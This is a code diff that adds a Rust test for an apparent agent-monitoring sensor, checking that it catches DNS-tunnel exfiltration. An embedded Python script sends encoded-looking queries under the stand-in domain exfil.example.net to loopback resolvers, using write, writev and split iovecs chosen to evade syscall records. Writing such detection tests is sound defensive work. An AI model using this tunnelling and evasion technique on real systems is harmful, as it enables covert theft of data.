@@ -560,6 +560,78 @@ fn an_x32_syscall_is_read_as_the_x86_64_call() {
     );
 }
 
+/// A DNS tunnel sent the ways the syscall records miss: `write` and `writev` on a connected UDP
+/// socket, and a `sendmsg` whose query is split over iovecs or follows an empty one. Each
+/// query is read from its packet as it leaves (`net.dns_packet`), over IPv4 and IPv6.
+#[test]
+fn a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets() {
+    if !can_run_kernel_tests(
+        "a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets",
+    ) {
+        return;
+    }
+    let scene = Scene::new("packetdns");
+    let _resolver =
+        std::net::UdpSocket::bind("127.0.0.76:53").expect("loopback listener on 127.0.0.76:53");
+    let _resolver6 = std::net::UdpSocket::bind("[::1]:53").ok();
+    let script = scene.script(
+        "packetdns",
+        "import os, socket, struct, sys\n\
+         def query(i):\n\
+         \x20   name = 'mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv%d.exfil.example.net' % i\n\
+         \x20   q = struct.pack('>HHHHHH', i, 0x100, 1, 0, 0, 0)\n\
+         \x20   for label in name.split('.'):\n\
+         \x20       q += bytes([len(label)]) + label.encode()\n\
+         \x20   return q + b'\\0' + struct.pack('>HH', 16, 1)\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+         s.connect(('127.0.0.76', 53))\n\
+         os.write(s.fileno(), query(0))\n\
+         q = query(1)\n\
+         os.writev(s.fileno(), [q[:5], q[5:]])\n\
+         q = query(2)\n\
+         s.sendmsg([q[:5], q[5:]])\n\
+         s.sendmsg([b'', query(3)])\n\
+         s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
+         s6.connect(('::1', 53))\n\
+         os.write(s6.fileno(), query(4))\n\
+         print('sent')\n",
+    );
+    let sensor = scene.sensor();
+    let out = run_agent(&sensor, "packetdns", &scene.worktree, &[PYTHON, &script]);
+    assert_eq!(out, "sent\n");
+    let (events, alerts) = finish(sensor);
+    let queried: Vec<_> = events
+        .iter()
+        .filter(|e| e["kind"] == "net.dns_packet")
+        .map(|e| (e["addr"]["ip"].clone(), e["dns"]["name"].clone()))
+        .collect();
+    let expected: Vec<_> = (0..5)
+        .map(|i| {
+            (
+                serde_json::json!(if i == 4 { "::1" } else { "127.0.0.76" }),
+                serde_json::json!(format!(
+                    "mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net"
+                )),
+            )
+        })
+        .collect();
+    assert_eq!(queried, expected, "{events:#?}");
+    // The syscall records parse none of them (writes are not recorded; a sendmsg's record
+    // holds its first buffer).
+    assert!(
+        !events
+            .iter()
+            .any(|e| e["kind"] == "net.send" && !e["dns"].is_null()),
+        "{events:#?}"
+    );
+    assert!(
+        alerts
+            .iter()
+            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "packetdns"),
+        "{alerts:#?}"
+    );
+}
+
 /// A DNS tunnel sent with 32-bit calls (i386's `sendmsg`, whose `struct msghdr` has 32-bit
 /// fields, and `socketcall`'s `sendmsg`, `sendto` and `send`): each query is read as a
 /// 64-bit `sendto` of the same bytes to the same address, parsed and judged.
